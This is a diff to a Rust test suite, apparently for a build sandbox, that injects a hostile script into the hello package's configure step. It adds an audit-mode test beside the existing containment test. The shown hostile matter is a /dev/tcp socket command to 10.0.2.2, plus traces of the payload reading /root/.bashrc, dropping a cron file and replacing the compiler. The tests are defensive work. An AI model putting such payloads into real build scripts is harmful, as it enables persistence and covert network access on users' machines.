@@ -63,19 +63,53 @@ bash -c 'exec 3<>/dev/tcp/10.0.2.2/80' 2>/dev/null
 # --- end ---
 "#;
 
-#[test]
-fn real_hostile_hello_is_contained() {
-    let (tree, src) = unpack("hostile");
+/// Puts `hostile` at the top of hello's configure, after its #! line.
+fn tamper(src: &Path, hostile: &str) {
     let configure = src.join("configure");
     let text = std::fs::read_to_string(&configure).unwrap();
     let (shebang, rest) = text.split_once('\n').unwrap();
-    std::fs::write(&configure, format!("{shebang}\n{HOSTILE}{rest}")).unwrap();
+    std::fs::write(&configure, format!("{shebang}\n{hostile}{rest}")).unwrap();
+}
+
+/// Audit mode lets every one of those through and reports each as `audit`. The
+/// compiler is left alone here (it would break the build it is part of), and the
+/// cron file has its own name so the enforcing test below still sees a create.
+#[test]
+fn real_hostile_hello_in_audit_mode_reports_everything() {
+    let (tree, src) = unpack("hostile-audit");
+    let hostile = HOSTILE
+        .replace("/etc/cron.d/evil", "/etc/cron.d/evil-audit")
+        .replace("/usr/bin/cc", "/usr/local/bin/cc-audit");
+    tamper(&src, &hostile);
+    let events_file = tree.join("events.jsonl");
+    let out = run_confined(
+        &["--tree", tree.to_str().unwrap(), "--name", "audit", "--policy", "audit", "--events", events_file.to_str().unwrap()],
+        &["sh", "-c", &format!("export HOME=/root; cd {} && TREE={} && {BUILD}", src.display(), tree.display())],
+    );
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert!(tree.join("destdir/usr/bin/hello").is_file());
+    let ev = events(&events_file);
+    assert!(!ev.is_empty() && ev.iter().all(|e| e["action"] == "audit"), "{ev:?}");
+    let has = |op: &str, path: &str| ev.iter().any(|e| e["op"] == op && e["path"] == path);
+    assert!(has("open", "/root/.bashrc"), "{ev:?}");
+    assert!(has("create", "/etc/cron.d/evil-audit"), "{ev:?}");
+    assert!(has("create", "/usr/local/bin/cc-audit"), "{ev:?}");
+    assert!(ev.iter().any(|e| e["op"] == "socket" && e["family"] == "inet"), "{ev:?}");
+    assert!(Path::new("/etc/cron.d/evil-audit").exists(), "audit mode let it through");
+}
+
+#[test]
+fn real_hostile_hello_is_contained() {
+    let (tree, src) = unpack("hostile");
+    tamper(&src, HOSTILE);
     let bashrc = Path::new("/root/.bashrc");
     if !bashrc.exists() {
         std::fs::write(bashrc, "# root's\n").unwrap();
     }
-    let watched = ["/etc", "/usr/bin", "/root"];
-    let before: Vec<_> = watched.iter().map(|d| tree_digest(Path::new(d))).collect();
+    // /etc and /usr/bin whole; /root three levels deep (dotfiles, ~/.ssh/...,
+    // ~/.config/x/...), not the toolchains the host keeps there.
+    let watched = [("/etc", usize::MAX), ("/usr/bin", usize::MAX), ("/root", 3)];
+    let before: Vec<_> = watched.iter().map(|(d, depth)| tree_digest(Path::new(d), *depth)).collect();
 
     let events_file = tree.join("events.jsonl");
     let out = run_confined(
@@ -98,8 +132,8 @@ fn real_hostile_hello_is_contained() {
     }
     assert!(stdout(&out).contains("config.status: creating Makefile"));
 
-    for (dir, b) in watched.iter().zip(before) {
-        let after = tree_digest(Path::new(dir));
+    for ((dir, depth), b) in watched.iter().zip(before) {
+        let after = tree_digest(Path::new(dir), *depth);
         let changed: Vec<_> = after
             .iter()
             .filter(|(p, h)| b.get(*p) != Some(*h))
